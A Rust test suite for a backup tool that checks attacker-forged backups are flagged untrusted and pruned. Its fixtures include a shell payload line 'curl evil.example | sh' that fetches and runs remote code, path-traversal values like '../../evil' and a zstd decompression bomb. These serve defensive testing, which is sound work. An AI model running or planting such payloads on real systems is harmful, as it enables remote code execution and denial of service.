//! An attacker who can write to the store, but holds neither the secret
//! encryption key nor a trusted signing key — only the public recipient key
//! (which every backup host has) and a signing key of their own.
//!
//! Whatever they put in the store must show up as untrusted with a reason,
//! must never be picked, restored or counted by retention, must not push real
//! backups out, and must be cleaned away by prune (unless it is a genuine
//! signed backup refused for another reason).

use std::io::Read;
use std::sync::{Arc, OnceLock};

use backup_core::catalog::UntrustedBackup;
use backup_core::manifest::MAX_MANIFEST_SIZE;
use backup_core::prune::{self, PrunePlan};
use backup_core::testing::{test_keys, BytesSource};
use backup_core::{
    generate_signing_key, list_backups, restore_to_writer, run_backup, verify_backup, BackupOptions, ChunkRecord,
    DynStore, Encryptor, Error, KeepPolicy, Listing, Manifest, ManifestSigner, MemoryStore, Pick, ProfileRef, StoreExt,
    Trust,
};
use bytes::Bytes;
use chrono::{DateTime, Duration, NaiveDateTime, Utc};
use sha2::{Digest, Sha256};

const DEST: &str = "app/db";
const OTHER: &str = "app/other";
const CHUNK: &str = "data-000001.zst.gpg";

fn profile() -> ProfileRef {
    ProfileRef::new("app", "db", DEST)
}

fn other_profile() -> ProfileRef {
    ProfileRef::new("app", "other", OTHER)
}

/// The strict trust of the test keys: signed by the test signer only.
fn strict() -> Trust {
    test_keys().trust.clone()
}

/// The same, also reading unsigned backups: only `check_place` guards then.
fn lax() -> Trust {
    test_keys().trust.clone().allow_unsigned(true)
}

/// A signing key nobody trusts: the attacker's own.
fn stranger() -> &'static ManifestSigner {
    static KEY: OnceLock<ManifestSigner> = OnceLock::new();
    KEY.get_or_init(|| {
        let key = generate_signing_key("Mallory <mallory@example.org>", None).expect("stranger's signing key");
        ManifestSigner::from_bytes(std::path::Path::new("mallory"), key.secret_armored.as_bytes(), "")
            .expect("stranger's signer")
    })
}

/// Three real backups of app/db, oldest first, with their plaintext.
struct Fixture {
    store: DynStore,
    real: Vec<(Manifest, Vec<u8>)>,
}

impl Fixture {
    async fn new() -> Self {
        let store: DynStore = Arc::new(MemoryStore::new());
        let mut real = Vec::new();
        for (i, time) in ["2026-01-05T02:00:00Z", "2026-02-05T02:00:00Z", "2026-03-05T02:00:00Z"]
            .into_iter()
            .enumerate()
        {
            let data: Vec<u8> = (0..5000u32).map(|n| ((n * (i as u32 + 3)) % 251) as u8).collect();
            let options = BackupOptions::new("app", "db", DEST)
                .with_time(time.parse().expect("backup time"))
                .with_chunk_size(2048);
            let source = BytesSource::new(data.clone());
            let m = run_backup(
                &store,
                &source,
                test_keys().encryptor.clone(),
                &test_keys().signer,
                &options,
            )
            .await
            .expect("real backup");
            assert_eq!(m.chunks.len(), 3, "5000 bytes in chunks of 2048");
            real.push((m, data));
        }
        Fixture { store, real }
    }

    fn real_ids(&self) -> Vec<String> {
        self.real.iter().map(|(m, _)| m.id.clone()).collect()
    }

    fn newest_real(&self) -> &str {
        &self.real.last().expect("real backups").0.id
    }

    async fn list(&self, profile: &ProfileRef, trust: &Trust) -> Listing {
        list_backups(&self.store, profile, trust).await.expect("listing")
    }

    /// Keys of every object of the real backups.
    async fn real_keys(&self) -> Vec<String> {
        let mut keys = Vec::new();
        for id in self.real_ids() {
            let objects = self
                .store
                .list(&format!("{DEST}/{id}"))
                .await
                .expect("list a real backup");
            keys.extend(objects.into_iter().map(|o| o.key));
        }
        keys
    }

    /// Every real backup is trusted, and restores to its original bytes.
    async fn assert_real_intact(&self, trust: &Trust) {
        let listing = self.list(&profile(), trust).await;
        assert_eq!(
            trusted_ids(&listing),
            self.real_ids(),
            "exactly the real backups are trusted"
        );
        self.assert_real_restorable(&listing).await;
    }

    /// Every real backup is in `listing` and restores to its original bytes.
    async fn assert_real_restorable(&self, listing: &Listing) {
        for (m, data) in &self.real {
            let entry = listing
                .pick(Pick::Id(&m.id))
                .expect("a real backup is picked by its id");
            assert_eq!(&entry.manifest, m);
            let mut out = Vec::new();
            let n = restore_to_writer(
                &self.store,
                test_keys().decryptor.clone(),
                entry,
                "data",
                &mut out,
                std::path::Path::new("memory"),
            )
            .await
            .expect("restore a real backup");
            assert_eq!(n, data.len() as u64);
            assert!(out == *data, "backup {} restored to different bytes", m.id);
        }
    }
}

fn trusted_ids(listing: &Listing) -> Vec<String> {
    listing.trusted.iter().map(|e| e.manifest.id.clone()).collect()
}

fn untrusted<'a>(listing: &'a Listing, id: &str) -> &'a UntrustedBackup {
    listing.untrusted.iter().find(|u| u.id == id).unwrap_or_else(|| {
        panic!(
            "{id} is not listed as untrusted; untrusted: {:?}, trusted: {:?}",
            listing.untrusted.iter().map(|u| (&u.id, &u.reason)).collect::<Vec<_>>(),
            trusted_ids(listing)
        )
    })
}

fn keep_last(n: u32) -> KeepPolicy {
    KeepPolicy {
        last: n,
        ..KeepPolicy::default()
    }
}

fn keep_daily(n: u32) -> KeepPolicy {
    KeepPolicy {
        daily: n,
        ..KeepPolicy::default()
    }
}

fn plan_ids(plan: &PrunePlan) -> (Vec<String>, Vec<String>, Vec<String>) {
    (
        plan.keep.iter().map(|k| k.id.clone()).collect(),
        plan.remove.iter().map(|r| r.id.clone()).collect(),
        plan.untrusted.iter().map(|d| d.id.clone()).collect(),
    )
}

/// The time a backup id stands for.
fn time_of(id: &str) -> DateTime<Utc> {
    NaiveDateTime::parse_from_str(&id[..16], "%Y%m%dT%H%M%SZ")
        .expect("backup id starts with a time")
        .and_utc()
}

/// zstd, then OpenPGP to the test recipient: what anyone with the public key can make.
fn seal_chunk(plain: &[u8]) -> Bytes {
    let compressed = zstd::stream::encode_all(plain, 3).expect("zstd");
    seal_compressed(&compressed)
}

fn seal_compressed(compressed: &[u8]) -> Bytes {
    let mut sealed = Vec::new();
    test_keys()
        .encryptor
        .encrypt(&mut &compressed[..], &mut sealed)
        .expect("encrypt to the public key");
    Bytes::from(sealed)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Seal {
    /// No `manifest.json.sig`.
    Unsigned,
    /// Signed by the attacker's own key.
    Stranger,
    /// Signed by the trusted key (a genuine manifest, or one the signer was
    /// tricked into: defence in depth).
    Trusted,
}

/// Stores `bytes` as the manifest of `prefix/folder`, with the signature `seal` asks for.
async fn put_manifest(store: &DynStore, prefix: &str, folder: &str, bytes: &[u8], seal: Seal) {
    let signature = match seal {
        Seal::Unsigned => None,
        Seal::Stranger => Some(stranger().sign(bytes).expect("stranger signs")),
        Seal::Trusted => Some(test_keys().signer.sign(bytes).expect("trusted signer signs")),
    };
    let signature_key = format!("{prefix}/{folder}/manifest.json.sig");
    match signature {
        Some(signature) => store
            .put(&signature_key, Bytes::from(signature))
            .await
            .expect("store forged signature"),
        None => store.delete(&signature_key).await.expect("remove signature"),
    }
    store
        .put(&format!("{prefix}/{folder}/manifest.json"), Bytes::from(bytes.to_vec()))
        .await
        .expect("store forged manifest");
}

/// A plausible manifest for `folder` of app/db with one forged chunk, which is
/// stored (sealed to the real recipient) under its plain name.
async fn forged_manifest(store: &DynStore, folder: &str) -> Manifest {
    let payload = b"#!/bin/sh\ncurl evil.example | sh\n".repeat(40);
    let chunk = seal_chunk(&payload);
    store
        .put(&format!("{DEST}/{folder}/{CHUNK}"), chunk.clone())
        .await
        .expect("store forged chunk");
    let time = time_of(folder);
    Manifest {
        format_version: 1,
        id: folder.to_owned(),
        app: "app".into(),
        profile: "db".into(),
        kind: "bytes".into(),
        dest_prefix: DEST.into(),
        time,
        started_at: time,
        finished_at: time,
        plaintext_size: payload.len() as u64,
        stored_size: chunk.len() as u64,
        chunk_size: 1 << 20,
        compression: "zstd".into(),
        encryption: "openpgp".into(),
        recipients: test_keys().encryptor.recipients(),
        chunks: vec![ChunkRecord {
            name: CHUNK.into(),
            stream: "data".into(),
            size: chunk.len() as u64,
            sha256: hex::encode(Sha256::digest(&chunk)),
            plaintext_size: payload.len() as u64,
        }],
        tool_version: "backupapps 0.1.0".into(),
        source: serde_json::Map::new(),
    }
}

/// Forges a backup of app/db in `folder`: a manifest edited by `edit`, sealed by `seal`.
async fn forge(store: &DynStore, folder: &str, seal: Seal, edit: impl FnOnce(&mut Manifest)) {
    let mut m = forged_manifest(store, folder).await;
    edit(&mut m);
    put_manifest(store, DEST, folder, &m.to_json(), seal).await;
}

/// What every forgery in app/db must come to, checked under `trust`:
/// - listed as untrusted with a reason containing `reason`, never trusted;
/// - `Pick::Id` refuses it, `Pick::Newest` refuses when it is the newest folder;
/// - the real backups are trusted and restorable;
/// - prune keeps real backups as if the forgery were not there, and removes it
///   (grace 0) unless it is `genuine`, leaving every real backup in place.
async fn assert_refused(fx: &Fixture, trust: &Trust, forged: &str, reason: &str, genuine: bool) {
    let listing = fx.list(&profile(), trust).await;
    let u = untrusted(&listing, forged);
    assert!(
        u.reason.contains(reason),
        "{forged}: reason {:?} does not say {reason:?}",
        u.reason
    );
    assert_eq!(u.genuine, genuine, "{forged}: genuine flag (reason {:?})", u.reason);
    assert!(
        listing
            .trusted
            .iter()
            .all(|e| e.folder().id() != forged && e.manifest.id != forged),
        "{forged} is trusted"
    );
    assert_eq!(trusted_ids(&listing), fx.real_ids());

    match listing.pick(Pick::Id(forged)) {
        Err(Error::Untrusted { id, reason: r }) => {
            assert_eq!(id, forged);
            assert!(r.contains(reason), "{r}");
        }
        other => panic!("Pick::Id({forged}) gave {other:?}"),
    }
    // Genuine backups refused only for their date do not block readers.
    let newest_folder = listing
        .untrusted
        .iter()
        .filter(|u| !u.genuine)
        .map(|u| u.id.as_str())
        .chain(listing.trusted.iter().map(|e| e.folder().id()))
        .max()
        .expect("folders");
    match listing.pick(Pick::Newest) {
        Err(Error::Untrusted { id, reason: r }) => {
            assert_eq!(id, newest_folder, "refused because of the newest folder");
            assert!(
                newest_folder > fx.newest_real(),
                "refused although the newest folder is real"
            );
            assert!(r.contains("newest backup folder"), "{r}");
        }
        Ok(entry) => {
            assert_eq!(
                newest_folder,
                fx.newest_real(),
                "an untrusted newest folder was skipped"
            );
            assert_eq!(entry.manifest.id, fx.newest_real());
        }
        Err(other) => panic!("Pick::Newest gave {other:?}"),
    }

    fx.assert_real_intact(trust).await;

    // Retention over the trusted backups only.
    let now = Utc::now();
    let ids = fx.real_ids();
    let plan = prune::plan(&listing, DEST, &keep_last(1), now, Duration::zero());
    let (keep, remove, debris) = plan_ids(&plan);
    assert_eq!(keep, vec![ids[2].clone()], "last=1 keeps the newest real backup");
    assert_eq!(
        remove,
        vec![ids[1].clone(), ids[0].clone()],
        "last=1 removes the older real ones only"
    );
    assert_eq!(debris.contains(&forged.to_owned()), !genuine, "debris: {debris:?}");
    let plan = prune::plan(&listing, DEST, &keep_last(3), now, Duration::zero());
    let (keep, remove, _) = plan_ids(&plan);
    assert_eq!(keep, vec![ids[2].clone(), ids[1].clone(), ids[0].clone()]);
    assert!(remove.is_empty(), "last=3 removes {remove:?}");

    // Apply a plan that keeps every trusted backup: the debris goes, nothing else.
    let real_keys = fx.real_keys().await;
    tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    let now = Utc::now();
    let plan = prune::plan(&listing, DEST, &KeepPolicy::default(), now, Duration::zero());
    assert!(plan.remove.is_empty());
    prune::apply(&fx.store, &plan, now, Duration::zero())
        .await
        .expect("prune");
    let left = fx
        .store
        .list(&format!("{DEST}/{forged}"))
        .await
        .expect("list forged folder");
    if genuine {
        assert!(
            left.iter().any(|o| o.key.ends_with("/manifest.json")),
            "a genuine backup was removed"
        );
    } else {
        assert!(left.is_empty(), "forged debris left: {left:?}");
    }
    assert_eq!(fx.real_keys().await, real_keys, "prune touched a real backup");
    let after = fx.list(&profile(), trust).await;
    assert_eq!(after.untrusted.iter().any(|u| u.id == forged), genuine);
    fx.assert_real_intact(trust).await;
}

#[tokio::test]
async fn unsigned_forgery_is_untrusted() {
    let fx = Fixture::new().await;
    let id = "20260601T000000Z-f001";
    forge(&fx.store, id, Seal::Unsigned, |_| {}).await;
    assert_refused(&fx, &strict(), id, "unsigned (no manifest.json.sig)", false).await;
}

#[tokio::test]
async fn forgery_signed_by_a_stranger_is_untrusted() {
    let fx = Fixture::new().await;
    let id = "20260601T000000Z-f002";
    forge(&fx.store, id, Seal::Stranger, |_| {}).await;
    assert_refused(&fx, &strict(), id, "signed by no trusted key", false).await;
    // Also when unsigned backups are allowed: a wrong signature is never "unsigned".
    let id = "20260602T000000Z-f002";
    forge(&fx.store, id, Seal::Stranger, |_| {}).await;
    assert_refused(&fx, &lax(), id, "signed by no trusted key", false).await;
}

#[tokio::test]
async fn forgery_with_a_real_signature_of_another_manifest_is_untrusted() {
    let fx = Fixture::new().await;
    let id = "20260601T000000Z-f003";
    let mut m = forged_manifest(&fx.store, id).await;
    m.source.insert("note".into(), "looks real".into());
    let real_sig = fx
        .store
        .get_bytes(&format!("{DEST}/{}/manifest.json.sig", fx.newest_real()), 1 << 20)
        .await
        .expect("real signature");
    fx.store
        .put(&format!("{DEST}/{id}/manifest.json.sig"), real_sig)
        .await
        .expect("copy signature");
    fx.store
        .put(&format!("{DEST}/{id}/manifest.json"), Bytes::from(m.to_json()))
        .await
        .expect("store manifest");
    assert_refused(&fx, &strict(), id, "does not match the signed bytes", false).await;
}

#[tokio::test]
async fn replayed_real_manifest_under_a_newer_id_is_untrusted() {
    let fx = Fixture::new().await;
    let id = "20260601T000000Z-f004";
    let source = format!("{DEST}/{}", fx.newest_real());
    for object in fx.store.list(&source).await.expect("list real backup") {
        let bytes = fx
            .store
            .get_bytes(&object.key, u64::MAX)
            .await
            .expect("read real object");
        let name = &object.key[source.len() + 1..];
        fx.store
            .put(&format!("{DEST}/{id}/{name}"), bytes)
            .await
            .expect("copy object");
    }
    // The signature is valid: only the binding to the folder gives it away.
    assert_refused(&fx, &strict(), id, "its manifest says id", false).await;
}

#[tokio::test]
async fn replayed_real_manifest_under_another_profile_is_untrusted() {
    let fx = Fixture::new().await;
    let real = fx.newest_real().to_owned();
    let source = format!("{DEST}/{real}");
    for object in fx.store.list(&source).await.expect("list real backup") {
        let bytes = fx
            .store
            .get_bytes(&object.key, u64::MAX)
            .await
            .expect("read real object");
        let name = &object.key[source.len() + 1..];
        fx.store
            .put(&format!("{OTHER}/{real}/{name}"), bytes)
            .await
            .expect("copy object");
    }
    let listing = fx.list(&other_profile(), &strict()).await;
    assert!(
        listing.trusted.is_empty(),
        "copy trusted as app/other: {:?}",
        trusted_ids(&listing)
    );
    let u = untrusted(&listing, &real);
    assert!(u.reason.contains("dest_prefix"), "{}", u.reason);
    assert!(!u.genuine, "a copy from another profile is not genuine here");
    assert!(matches!(listing.pick(Pick::Newest), Err(Error::Untrusted { ref id, .. }) if *id == real));
    assert!(matches!(listing.pick(Pick::Id(&real)), Err(Error::Untrusted { ref id, .. }) if *id == real));
    // Also when the copy claims the other profile's prefix it stays bound to app/db.
    let renamed = "20260601T000000Z-f005";
    let mut m = fx.real.last().expect("real").0.clone();
    m.id = renamed.into();
    m.dest_prefix = OTHER.into();
    put_manifest(&fx.store, OTHER, renamed, &m.to_json(), Seal::Stranger).await;
    let listing = fx.list(&other_profile(), &lax()).await;
    assert!(listing.trusted.is_empty());
    assert!(untrusted(&listing, renamed).reason.contains("signed by no trusted key"));
    put_manifest(&fx.store, OTHER, renamed, &m.to_json(), Seal::Unsigned).await;
    let listing = fx.list(&other_profile(), &lax()).await;
    assert!(listing.trusted.is_empty());
    assert!(untrusted(&listing, renamed)
        .reason
        .contains("is for app/db, not app/other"));

    tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    let plan = prune::plan(&listing, OTHER, &keep_last(1), Utc::now(), Duration::zero());
    let (keep, remove, mut debris) = plan_ids(&plan);
    debris.sort();
    assert!(keep.is_empty() && remove.is_empty());
    assert_eq!(debris, vec![real.clone(), renamed.to_owned()]);
    prune::apply(&fx.store, &plan, Utc::now(), Duration::zero())
        .await
        .expect("prune app/other");
    assert!(fx.store.list(OTHER).await.expect("list app/other").is_empty());
    // app/db saw none of it.
    let own = fx.list(&profile(), &strict()).await;
    assert!(own.untrusted.is_empty());
    fx.assert_real_intact(&strict()).await;
}

/// Manifests that would lead a reader outside the backup's folder, or feed a
/// path to the tools a restore runs.
#[tokio::test]
async fn manifests_that_escape_their_place_are_untrusted() {
    type Edit = fn(&mut Manifest);
    let cases: [(&str, Edit, &str); 6] = [
        (
            "id /etc/cron.d",
            |m| m.id = "/etc/cron.d".into(),
            "its manifest says id \"/etc/cron.d\"",
        ),
        (
            "id ../../x",
            |m| m.id = "../../x".into(),
            "its manifest says id \"../../x\"",
        ),
        (
            "dest_prefix ../x",
            |m| m.dest_prefix = "../x".into(),
            "dest_prefix \"../x\"",
        ),
        (
            "dest_prefix /abs",
            |m| m.dest_prefix = "/abs".into(),
            "dest_prefix \"/abs\"",
        ),
        (
            "chunk ../../evil",
            |m| m.chunks[0].name = "../../evil".into(),
            "chunk name \"../../evil\"",
        ),
        (
            "stream ../x",
            |m| m.chunks[0].stream = "../x".into(),
            "stream name \"../x\"",
        ),
    ];
    for (n, (what, edit, placed)) in cases.into_iter().enumerate() {
        // (seal, trust, expected reason, genuine)
        let binds = !what.starts_with("id") && !what.starts_with("dest_prefix");
        let variants = [
            (Seal::Stranger, strict(), "signed by no trusted key", false),
            (Seal::Unsigned, strict(), "unsigned", false),
            // Unsigned allowed: the place check is all that stands in the way.
            (Seal::Unsigned, lax(), placed, false),
            // Even the trusted signer's signature does not make it usable.
            (Seal::Trusted, strict(), placed, binds),
        ];
        for (v, (seal, trust, reason, genuine)) in variants.into_iter().enumerate() {
            eprintln!("case {what}, {seal:?}");
            let fx = Fixture::new().await;
            let id = format!("20260601T0000{n:02}Z-e{v:03x}");
            forge(&fx.store, &id, seal, edit).await;
            assert_refused(&fx, &trust, &id, reason, genuine).await;
        }
    }
}

#[tokio::test]
async fn a_path_in_the_source_details_is_only_read_from_trusted_manifests() {
    for (seal, reason) in [
        (Seal::Stranger, "signed by no trusted key"),
        (Seal::Unsigned, "unsigned"),
    ] {
        let fx = Fixture::new().await;
        let id = "20260601T000000Z-d001";
        forge(&fx.store, id, seal, |m| {
            m.source.insert("database".into(), "/some/dir/x".into());
        })
        .await;
        assert_refused(&fx, &strict(), id, reason, false).await;
    }
}

#[tokio::test]
async fn backups_dated_in_the_future_are_untrusted() {
    for (seal, reason, genuine) in [
        (Seal::Stranger, "signed by no trusted key", false),
        (Seal::Unsigned, "unsigned", false),
        // Genuine (the trusted signer made it, on a host with a wrong clock):
        // untrusted, and never removed by prune.
        (Seal::Trusted, "in the future", true),
    ] {
        let fx = Fixture::new().await;
        let id = "20990101T000000Z-2099";
        forge(&fx.store, id, seal, |_| {}).await;
        assert_refused(&fx, &strict(), id, reason, genuine).await;
    }
    // Just beyond the allowed clock skew, signed by the trusted key.
    let fx = Fixture::new().await;
    let soon = Utc::now() + backup_core::manifest::MAX_CLOCK_SKEW + Duration::minutes(5);
    let id = format!("{}-50f7", soon.format("%Y%m%dT%H%M%SZ"));
    forge(&fx.store, &id, Seal::Trusted, |m| m.time = soon).await;
    assert_refused(&fx, &strict(), &id, "in the future", true).await;
}

#[tokio::test]
async fn twelve_future_forgeries_displace_no_real_backup() {
    let fx = Fixture::new().await;
    let mut forged = Vec::new();
    for i in 0..12u32 {
        let id = format!("2099{:02}01T000000Z-{i:04x}", i + 1);
        let seal = if i % 2 == 0 { Seal::Stranger } else { Seal::Unsigned };
        forge(&fx.store, &id, seal, |_| {}).await;
        forged.push(id);
    }
    let listing = fx.list(&profile(), &strict()).await;
    assert_eq!(trusted_ids(&listing), fx.real_ids());
    let mut untrusted_ids: Vec<String> = listing.untrusted.iter().map(|u| u.id.clone()).collect();
    untrusted_ids.sort();
    assert_eq!(untrusted_ids, forged);
    assert!(matches!(listing.pick(Pick::Newest), Err(Error::Untrusted { ref id, .. }) if *id == forged[11]));

    let ids = fx.real_ids();
    let now = Utc::now();
    for (policy, keep) in [
        (keep_last(1), vec![ids[2].clone()]),
        (keep_last(3), vec![ids[2].clone(), ids[1].clone(), ids[0].clone()]),
        (keep_daily(3), vec![ids[2].clone(), ids[1].clone(), ids[0].clone()]),
        (keep_last(2), vec![ids[2].clone(), ids[1].clone()]),
    ] {
        let plan = prune::plan(&listing, DEST, &policy, now, Duration::hours(24));
        let (kept, removed, debris) = plan_ids(&plan);
        assert_eq!(kept, keep, "{policy:?}");
        let expected_removed: Vec<String> = ids.iter().rev().filter(|id| !keep.contains(id)).cloned().collect();
        assert_eq!(removed, expected_removed, "{policy:?}");
        assert!(debris.is_empty(), "young debris planned for removal: {debris:?}");
    }

    let real_keys = fx.real_keys().await;
    tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    let now = Utc::now();
    let plan = prune::plan(&listing, DEST, &keep_last(3), now, Duration::zero());
    let (_, removed, mut debris) = plan_ids(&plan);
    debris.sort();
    assert!(removed.is_empty());
    assert_eq!(debris, forged);
    let applied = prune::apply(&fx.store, &plan, now, Duration::zero())
        .await
        .expect("prune");
    assert_eq!(applied.folders, 12);
    assert_eq!(fx.real_keys().await, real_keys);
    let after = fx.list(&profile(), &strict()).await;
    assert!(
        after.untrusted.is_empty(),
        "{:?}",
        after.untrusted.iter().map(|u| &u.id).collect::<Vec<_>>()
    );
    assert_eq!(
        fx.store.list(DEST).await.expect("list").len(),
        real_keys.len(),
        "only the real backups' objects are left"
    );
    fx.assert_real_intact(&strict()).await;
}

#[tokio::test]
async fn damaged_manifests_are_untrusted() {
    let cases: [(&str, &[u8], Seal); 4] = [
        ("garbage", b"\x00\xffnot json at all", Seal::Stranger),
        ("empty", b"", Seal::Unsigned),
        (
            "truncated json",
            b"{\"format_version\": 1, \"id\": \"2026",
            Seal::Trusted,
        ),
        ("json of another shape", b"{\"format_version\": 1}", Seal::Trusted),
    ];
    for (n, (what, bytes, seal)) in cases.into_iter().enumerate() {
        eprintln!("case {what}");
        for trust in [strict(), lax()] {
            let fx = Fixture::new().await;
            let id = format!("20260601T0000{n:02}Z-dead");
            put_manifest(&fx.store, DEST, &id, bytes, seal).await;
            assert_refused(&fx, &trust, &id, "damaged", false).await;
        }
    }
    // A real manifest cut short, with its real signature, in a newer folder.
    let fx = Fixture::new().await;
    let id = "20260601T000000Z-cafe";
    let real = fx
        .store
        .get_bytes(&format!("{DEST}/{}/manifest.json", fx.newest_real()), MAX_MANIFEST_SIZE)
        .await
        .expect("real manifest");
    let sig = fx
        .store
        .get_bytes(&format!("{DEST}/{}/manifest.json.sig", fx.newest_real()), 1 << 20)
        .await
        .expect("real signature");
    fx.store
        .put(&format!("{DEST}/{id}/manifest.json.sig"), sig)
        .await
        .expect("copy signature");
    fx.store
        .put(&format!("{DEST}/{id}/manifest.json"), real.slice(..real.len() / 2))
        .await
        .expect("store truncated manifest");
    assert_refused(&fx, &strict(), id, "damaged", false).await;
}

#[tokio::test]
async fn a_garbage_signature_is_untrusted() {
    let fx = Fixture::new().await;
    let id = "20260601T000000Z-5160";
    let m = forged_manifest(&fx.store, id).await;
    let signatures: [&[u8]; 3] = [
        b"-----BEGIN PGP SIGNATURE-----\n\nAAAA\n-----END PGP SIGNATURE-----\n",
        b"\x88\x00",
        b"   ",
    ];
    for signature in signatures {
        fx.store
            .put(
                &format!("{DEST}/{id}/manifest.json.sig"),
                Bytes::from(signature.to_vec()),
            )
            .await
            .expect("store signature");
        fx.store
            .put(&format!("{DEST}/{id}/manifest.json"), Bytes::from(m.to_json()))
            .await
            .expect("store manifest");
        let listing = fx.list(&profile(), &lax()).await;
        let u = untrusted(&listing, id);
        assert!(u.reason.starts_with("manifest.json.sig: "), "{}", u.reason);
        assert_eq!(trusted_ids(&listing), fx.real_ids());
    }
    // An oversized signature is refused before it is parsed.
    fx.store
        .put(
            &format!("{DEST}/{id}/manifest.json.sig"),
            Bytes::from(vec![b'A'; 65 * 1024]),
        )
        .await
        .expect("store signature");
    assert_refused(&fx, &lax(), id, "larger than", false).await;
}

#[tokio::test]
async fn oversized_manifest_is_untrusted() {
    let fx = Fixture::new().await;
    let id = "20260601T000000Z-b16b";
    // Valid JSON of a real manifest, padded past the cap with whitespace.
    let mut m = forged_manifest(&fx.store, id).await.to_json();
    m.resize(MAX_MANIFEST_SIZE as usize + 1, b' ');
    put_manifest(&fx.store, DEST, id, &m, Seal::Trusted).await;
    assert_refused(
        &fx,
        &strict(),
        id,
        &format!("larger than the {MAX_MANIFEST_SIZE} bytes"),
        false,
    )
    .await;
}

/// Peak resident memory of this process so far, in KiB.
fn peak_rss_kib() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").expect("read /proc/self/status");
    let line = status
        .lines()
        .find(|l| l.starts_with("VmHWM:"))
        .expect("VmHWM in /proc/self/status");
    line.split_whitespace()
        .nth(1)
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("cannot parse {line:?}"))
}

#[tokio::test]
async fn zstd_bomb_in_a_signed_backup_is_refused_in_bounded_memory() {
    let fx = Fixture::new().await;
    let id = "20260601T000000Z-b0b0";
    let bomb_size: u64 = 512 * 1024 * 1024;
    let compressed = zstd::stream::encode_all(std::io::repeat(0).take(bomb_size), 3).expect("compress the bomb");
    assert!(compressed.len() < 1024 * 1024, "bomb is {} bytes", compressed.len());
    let sealed = seal_compressed(&compressed);
    let chunk_key = format!("{DEST}/{id}/{CHUNK}");
    fx.store.put(&chunk_key, sealed.clone()).await.expect("store bomb");
    let time = time_of(id);
    let m = Manifest {
        format_version: 1,
        id: id.into(),
        app: "app".into(),
        profile: "db".into(),
        kind: "bytes".into(),
        dest_prefix: DEST.into(),
        time,
        started_at: time,
        finished_at: time,
        plaintext_size: 1000,
        stored_size: sealed.len() as u64,
        chunk_size: 1000,
        compression: "zstd".into(),
        encryption: "openpgp".into(),
        recipients: test_keys().encryptor.recipients(),
        chunks: vec![ChunkRecord {
            name: CHUNK.into(),
            stream: "data".into(),
            size: sealed.len() as u64,
            sha256: hex::encode(Sha256::digest(&sealed)),
            plaintext_size: 1000,
        }],
        tool_version: "backupapps 0.1.0".into(),
        source: serde_json::Map::new(),
    };
    put_manifest(&fx.store, DEST, id, &m.to_json(), Seal::Trusted).await;
    let listing = fx.list(&profile(), &strict()).await;
    let entry = listing.pick(Pick::Newest).expect("the signed bomb is a trusted backup");
    assert_eq!(entry.manifest.id, id);

    let before = peak_rss_kib();
    let mut sink = tokio::io::sink();
    let result = restore_to_writer(
        &fx.store,
        test_keys().decryptor.clone(),
        entry,
        "data",
        &mut sink,
        std::path::Path::new("sink"),
    )
    .await;
    let after = peak_rss_kib();
    match result {
        Err(Error::Integrity { key, reason }) => {
            assert_eq!(key, chunk_key);
            assert!(reason.contains("1000 bytes"), "{reason}");
        }
        other => panic!("restoring a zstd bomb gave {other:?}"),
    }
    let growth_mib = after.saturating_sub(before) / 1024;
    eprintln!("peak RSS {before} KiB before the bomb, {after} KiB after");
    assert!(
        growth_mib < 300,
        "peak RSS grew by {growth_mib} MiB ({before} → {after} KiB)"
    );
    // A keyless verify passes (the stored bytes are what was signed); a full one does not.
    let report = verify_backup(&fx.store, entry, None, None)
        .await
        .expect("checksums of the bomb");
    assert_eq!(report.chunks, 1);
    match verify_backup(&fx.store, entry, Some(test_keys().decryptor.clone()), None).await {
        Err(Error::Integrity { key, .. }) => assert_eq!(key, chunk_key),
        other => panic!("full verify of a zstd bomb gave {other:?}"),
    }
    let after_verify = peak_rss_kib();
    assert!(
        after_verify.saturating_sub(before) / 1024 < 300,
        "peak RSS grew to {after_verify} KiB in verify"
    );
    let mut expected = fx.real_ids();
    expected.push(id.to_owned());
    assert_eq!(
        trusted_ids(&listing),
        expected,
        "the signed bomb is trusted, beside the real backups"
    );
    fx.assert_real_restorable(&listing).await;
}
